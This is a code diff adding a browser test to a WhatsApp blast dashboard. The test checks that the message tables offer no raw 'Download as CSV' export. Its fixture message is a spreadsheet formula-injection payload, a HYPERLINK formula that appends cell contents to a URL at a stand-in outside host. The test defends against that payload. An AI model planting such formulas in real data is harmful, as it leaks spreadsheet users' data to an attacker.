@@ -5,6 +5,7 @@ draws, nor tick a row as the browser sends it."""
 from __future__ import annotations
 
 import datetime as dt
+import json
 from pathlib import Path
 
 import pytest
@@ -13,6 +14,7 @@ from sqlalchemy import Engine, select
 
 from core.db import make_engine, migrate, transaction
 from core.models import Blast, BlastRecipient, utcnow
+from core.webhook.inbox import WebhookRules, process_entry, store_raw
 from tests.support.browser import dashboard, wait_until_drawn
 from tests.support.factories import make_blast
 from tests.test_replies_page import _replied
@@ -48,6 +50,47 @@ def test_the_replies_list_downloads_from_the_page_not_from_the_table(browser, tm
         assert "Search" in shown, "the toolbar is drawn"
         assert not [label for label in shown if label.startswith("Download")], shown
         assert tab.get_by_role("button", name="Download as CSV").count() == 1, "the page's own"
+        tab.close()
+
+
+def _toolbar_labels(tab, table) -> list[str]:  # type: ignore[no-untyped-def]
+    """The labels of the buttons the table's toolbar shows when the pointer is over it."""
+    table.hover()
+    tools = table.locator("xpath=ancestor::*[@data-testid='stElementContainer'][1]").get_by_test_id(
+        "stElementToolbarButton").locator("button")
+    tools.filter(has=tab.locator("svg")).first.wait_for(timeout=10_000)
+    return [tool.get_attribute("aria-label") for tool in tools.all() if tool.is_visible()]
+
+
+def test_tables_of_what_others_typed_offer_no_download_of_it_as_typed(browser, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """A stranger's message starting with "=" in the table of messages no blast explains, and a
+    list's cell on the blast's recipients table: each toolbar's "Download as CSV" had given the
+    cell as typed, to run as a formula in Excel."""
+    _one_reply(tmp_path)
+    engine = make_engine(f"sqlite:///{tmp_path / 'blasts.db'}")
+    stranger = {"type": "text", "message": '=HYPERLINK("http://example.com/?"&A1,"Promo")',
+                "from": "60177770001@c.us", "timestamp": int(utcnow().timestamp())}
+    with transaction(engine) as s:
+        inbox_id = store_raw(s, body=json.dumps(stranger).encode(), content_type="application/json")
+    with transaction(engine) as s:
+        process_entry(s, inbox_id=inbox_id, rules=WebhookRules())
+        blast_id = s.scalars(select(Blast.id)).one()
+    engine.dispose()
+    with dashboard(tmp_path, {"RUN_WORKER": "false"}) as base:
+        tab = browser.new_page(viewport={"width": 1400, "height": 1000})
+        tab.goto(base + "/replies")
+        tab.get_by_text("from people no recent blast messaged").click()
+        tab.get_by_text("They wrote to your WhatsApp number").wait_for(timeout=30_000)
+        wait_until_drawn(tab)
+        shown = _toolbar_labels(tab, tab.get_by_test_id("stDataFrame").nth(1))
+        assert "Search" in shown and not [label for label in shown if label.startswith("Download")], shown
+        tab.goto(f"{base}/blast?blast={blast_id}")
+        tab.get_by_role("tab", name="Recipients").click()
+        tab.get_by_text("page 1 of 1").wait_for(timeout=30_000)
+        wait_until_drawn(tab)
+        table = tab.get_by_test_id("stDataFrame").filter(has=tab.locator("[aria-rowcount]")).last
+        shown = _toolbar_labels(tab, table)
+        assert "Search" in shown and not [label for label in shown if label.startswith("Download")], shown
         tab.close()
 
 
